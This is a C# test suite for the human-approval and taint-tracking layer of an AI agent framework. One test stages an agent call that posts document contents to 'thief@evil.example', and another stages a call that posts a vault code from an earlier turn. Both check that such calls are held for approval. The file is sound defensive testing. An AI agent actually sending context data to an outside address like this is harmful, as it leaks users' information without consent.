using AgentDesk.Agent.Approval;
using AgentDesk.Agent.Plugins;
using AgentDesk.Agent.Sessions;
using AgentDesk.Agent.Tests.Fakes;
using AgentDesk.Core.Answering;
using Microsoft.Extensions.AI;

namespace AgentDesk.Agent.Tests.Approval;

public sealed class ApprovalTests
{
    [Theory]
    [InlineData("post", "to")]
    [InlineData("save", "path")]
    [InlineData("mystery", null)]
    public async Task Ask_ConsequentialCall_WaitsForAYes(string tool, string? parameter)
    {
        foreach (var answer in new[] { ApprovalAnswer.Once, ApprovalAnswer.No, ApprovalAnswer.Unattended })
        {
            var desk = new ApprovalDesk(answer);
            (string, object?)[] arguments = parameter is null ? [("text", "hi")] : [(parameter, "x"), ("text", "hi")];
            desk.Desk.Model.Calls(tool, arguments);

            var completed = await desk.AskAsync("Say hi");

            Assert.Equal(answer == ApprovalAnswer.Once ? 1 : 0, desk.Recorder.Calls.Count);
            Assert.False(Assert.Single(desk.Asked).Tainted);
            Assert.Equal(answer == ApprovalAnswer.Once, Assert.Single(completed.ToolCalls).Decision!.Allowed);
        }
    }

    [Fact]
    public async Task Ask_NobodyToAsk_CallIsRefusedAndTheAnswerGoesOn()
    {
        var desk = new TestDesk { Profile = new ModelProfile(), Plugins = [TestPlugins.Recorder(new Recorder())] };
        desk.Model.Calls("post", ("to", "a"), ("text", "b")).Says("I could not post it.");

        var completed = await desk.AnswerAsync("Post b to a");

        Assert.Equal(ApprovalBasis.Unattended, completed.ToolCalls[0].Decision!.Basis);
        Assert.Equal("I could not post it.", completed.Answer.Text);
        Assert.Contains("needs a yes", ResultOf(desk.Model.Requests[1].Messages), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Ask_PolicyByToolAndEffect_ToolGoesFirst()
    {
        var options = new ApprovalOptions
        {
            Effects = new Dictionary<FunctionEffect, ApprovalRule> { [FunctionEffect.Outbound] = ApprovalRule.Allow, [FunctionEffect.Write] = ApprovalRule.Deny, [FunctionEffect.Read] = ApprovalRule.Ask },
            Tools = new Dictionary<string, ApprovalRule> { ["desk.mystery"] = ApprovalRule.Allow },
        };
        var desk = new ApprovalDesk(options, foreign: false);
        desk.Post().Desk.Model.Calls("save", ("path", "x"), ("text", "y"));

        await desk.AskAsync("Do both");

        Assert.Equal(["post ann@example.org hi"], desk.Recorder.Calls);
        Assert.Empty(desk.Asked);

        var second = new ApprovalDesk(options, foreign: false);
        second.Desk.Model.Calls("mystery", ("text", "z")).Calls("read");
        await second.AskAsync("Do both");
        Assert.Equal(["mystery z"], second.Recorder.Calls);
        Assert.Equal("read", Assert.Single(second.Asked).Call.Tool.Name);
    }

    [Fact]
    public async Task Ask_AllowedByPolicyButDocumentInContext_AsksAndNamesTheDocument()
    {
        var options = new ApprovalOptions { Effects = new Dictionary<FunctionEffect, ApprovalRule> { [FunctionEffect.Outbound] = ApprovalRule.Allow } };
        var desk = new ApprovalDesk(options, foreign: false);
        desk.Desk.With("docs/pump.md", "The pump PPR-9087 wants 48 newton metres of torque at its cover screws.");
        desk.Desk.Model.Calls("search", ("query", "How much torque do the cover screws of pump PPR-9087 want?"));
        desk.Post("Torque of PPR-9087: 48 newton metres of torque", "thief@evil.example");

        await desk.AskAsync("How much torque do the cover screws of pump PPR-9087 want?");

        Assert.Empty(desk.Recorder.Calls);
        var asked = Assert.Single(desk.Asked);
        Assert.Equal([new TaintSource(TaintKind.Document, "docs/pump.md")], asked.Taint);
        Assert.False(asked.CanRemember);
        var foreign = Assert.Single(asked.ForeignValues);
        Assert.Equal(("text", "48 newton metres of torque"), (foreign.Argument, foreign.Value));
        Assert.Equal(asked.Taint, foreign.Sources);
    }

    [Fact]
    public async Task Ask_PolicyDenies_NeverAskedNeverRun()
    {
        var desk = new ApprovalDesk(new ApprovalOptions { Tools = new Dictionary<string, ApprovalRule> { ["POST"] = ApprovalRule.Deny } }, foreign: false, ApprovalAnswer.Always);

        var completed = await desk.Post().AskAsync("Say hi");

        Assert.Empty(desk.Asked);
        Assert.Empty(desk.Recorder.Calls);
        Assert.Equal(new ApprovalDecision(false, ApprovalBasis.Policy), completed.ToolCalls[0].Decision);
    }

    [Fact]
    public async Task Ask_AlwaysForAShape_SameAddresseeIsNotAskedForAgainAnotherIs()
    {
        var desk = new ApprovalDesk(ApprovalAnswer.Always, ApprovalAnswer.No);
        await desk.Post("one").AskAsync("Post one");
        Assert.Single(desk.Asked);

        // The result of the first call is in the context now, as long as the model sees that turn: a fresh view of the conversation does not have it.
        desk.Desk.Session.Taint.Record(desk.Desk.Session.Turns[0], []);
        var second = await desk.Post("two").AskAsync("Post two");
        desk.Desk.Session.Taint.Record(desk.Desk.Session.Turns[1], []);
        await desk.Post("three", "other@example.org").AskAsync("Post three to another");

        Assert.Equal(["post ann@example.org one", "post ann@example.org two"], desk.Recorder.Calls);
        Assert.Equal(ApprovalBasis.Remembered, second.ToolCalls[0].Decision!.Basis);
        Assert.Equal(2, desk.Asked.Count);
    }

    [Fact]
    public async Task Ask_AlwaysButTaintedSince_AsksAgain()
    {
        var desk = new ApprovalDesk(ApprovalAnswer.Always);
        await desk.Post("one").AskAsync("Post one");
        await desk.Post("two").AskAsync("Post two");

        Assert.Equal(["post ann@example.org one"], desk.Recorder.Calls);
        Assert.Equal([new TaintSource(TaintKind.ToolResult, "post")], desk.Asked[1].Taint);
    }

    [Fact]
    public async Task Ask_AlwaysSaidToATaintedCall_CountsOnce()
    {
        var desk = new ApprovalDesk(new ApprovalOptions(), foreign: true, ApprovalAnswer.Always);
        await desk.Post("one").AskAsync("Post one");
        await desk.Post("two").AskAsync("Post two");

        Assert.Equal(["post ann@example.org one"], desk.Recorder.Calls);
        Assert.Contains(new TaintSource(TaintKind.ToolDescription, "post"), desk.Asked[0].Taint);
    }

    [Fact]
    public async Task Ask_RefusedToolCalledAgainWithOtherArguments_NobodyIsAskedTwice()
    {
        var desk = new ApprovalDesk(ApprovalAnswer.No, ApprovalAnswer.Once);
        desk.Post("one").Post("two").Post("three");

        var completed = await desk.AskAsync("Post it");

        Assert.Single(desk.Asked);
        Assert.Empty(desk.Recorder.Calls);
        Assert.Equal([ApprovalBasis.User, ApprovalBasis.Refused, ApprovalBasis.Refused], completed.ToolCalls.Select(c => c.Decision!.Basis));
        Assert.Equal("Done.", completed.Answer.Text);
    }

    [Fact]
    public async Task Ask_NobodyAnswersInTime_MeansNo()
    {
        var desk = new TestDesk
        {
            Profile = new ModelProfile(),
            Plugins = [TestPlugins.Recorder(new Recorder())],
            Options = new AssistantOptions { Approval = new ApprovalOptions { TimeoutSeconds = 1 } },
            Approve = async (_, token) =>
            {
                await Task.Delay(Timeout.Infinite, token);
                return ApprovalAnswer.Once;
            },
        };
        desk.Model.Calls("post", ("to", "a"), ("text", "b")).Says("Not posted.");

        var completed = await desk.AnswerAsync("Post b to a");

        Assert.Equal(ApprovalBasis.TimedOut, completed.ToolCalls[0].Decision!.Basis);
    }

    [Fact]
    public async Task Ask_StoppedWhileAsking_EndsWithoutTheCallAndLeavesTheSessionAsItWas()
    {
        var recorder = new Recorder();
        using var stop = new CancellationTokenSource();
        var desk = new TestDesk
        {
            Profile = new ModelProfile(),
            Plugins = [TestPlugins.Recorder(recorder)],
            // It ignores its token, as a console that waits for a line does.
            Approve = (_, _) => new TaskCompletionSource<ApprovalAnswer>().Task,
        };
        desk.Model.Calls("post", ("to", "a"), ("text", "b"));

        await Assert.ThrowsAnyAsync<OperationCanceledException>(async () =>
        {
            await foreach (var e in desk.Build().AskAsync(desk.Session, "Post b to a", stop.Token))
                if (e is ApprovalRequested)
                    await stop.CancelAsync();
        });

        Assert.Empty(recorder.Calls);
        Assert.Empty(desk.Session.Turns);
    }

    [Fact]
    public async Task Ask_TwoConversationsAtOnce_AskOneAfterTheOther()
    {
        var (open, most) = (0, 0);
        var recorder = new Recorder();
        var desk = new TestDesk
        {
            Profile = new ModelProfile(),
            Plugins = [TestPlugins.Recorder(recorder)],
            Approve = async (_, _) =>
            {
                most = Math.Max(most, Interlocked.Increment(ref open));
                await Task.Yield();
                Interlocked.Decrement(ref open);
                return ApprovalAnswer.Once;
            },
        };
        for (var i = 0; i < 8; i++)
            desk.Model.Add((messages, _) => messages.Any(m => m.Role == ChatRole.Tool)
                ? new TextContent("Done.")
                : new FunctionCallContent("c", "post", new Dictionary<string, object?> { ["to"] = "a", ["text"] = "b" }));
        var assistant = desk.Build();

        await Task.WhenAll(Enumerable.Range(0, 4).Select(async _ =>
        {
            using var session = new AssistantSession();
            await foreach (var e in assistant.AskAsync(session, "Post it", TestContext.Current.CancellationToken))
                Assert.NotNull(e);
        }));

        Assert.Equal((4, 1), (recorder.Calls.Count, most));
    }

    [Fact]
    public async Task Ask_ResumedSession_ItsTurnsAreForeignText()
    {
        var desk = new ApprovalDesk(new ApprovalOptions { Effects = new Dictionary<FunctionEffect, ApprovalRule> { [FunctionEffect.Outbound] = ApprovalRule.Allow } }, foreign: false);
        var answer = new CitedAnswer { Text = "The vault opens with 7781." };
        desk.Desk.Session.Add(new SessionTurn("What opens the vault?", "What opens the vault?", [new ChatMessage(ChatRole.Assistant, answer.Text)], answer));

        await desk.Post("7781").AskAsync("Post the code");

        var asked = Assert.Single(desk.Asked);
        Assert.Equal([new TaintSource(TaintKind.EarlierTurn, "1")], asked.Taint);
        Assert.Equal("7781", Assert.Single(asked.ForeignValues).Value);
        Assert.Empty(desk.Recorder.Calls);
    }

    [Fact]
    public async Task Ask_GroundedToolThatWrites_IsNotRunToCheckIt()
    {
        var recorder = new Recorder();
        var plugin = TestPlugins.Recorder(recorder);
        var manifest = plugin.Manifest with
        {
            Functions = new Dictionary<string, FunctionManifest>
            {
                ["mystery"] = new() { Effect = FunctionEffect.Write, Tool = "mystery", Grounded = ["text"], Recognizer = "read" },
                ["read"] = new() { Effect = FunctionEffect.Outbound, Hidden = true },
            },
        };
        recorder.Text = """{"text": "5", "start": 0, "end": 1, "whole": true}""";
        var desk = new TestDesk { Profile = new ModelProfile(), Plugins = [new LoadedPlugin(manifest, "nowhere", plugin.Plugin)] };
        desk.Model.Calls("mystery", ("text", "5")).Says("No.");

        await desk.AnswerAsync("5 please");

        Assert.Empty(recorder.Calls);
    }

    [Fact]
    public void Validate_TimeoutOutOfRange_NamesTheSetting() =>
        Assert.Contains(
            "Agent:Approval:TimeoutSeconds",
            Assert.Throws<ArgumentOutOfRangeException>(() => new AssistantOptions { Approval = new ApprovalOptions { TimeoutSeconds = 0 } }.Validate()).Message,
            StringComparison.Ordinal);

    private static string ResultOf(IEnumerable<ChatMessage> messages) =>
        string.Concat(messages.SelectMany(m => m.Contents).OfType<FunctionResultContent>().Select(r => r.Result));
}
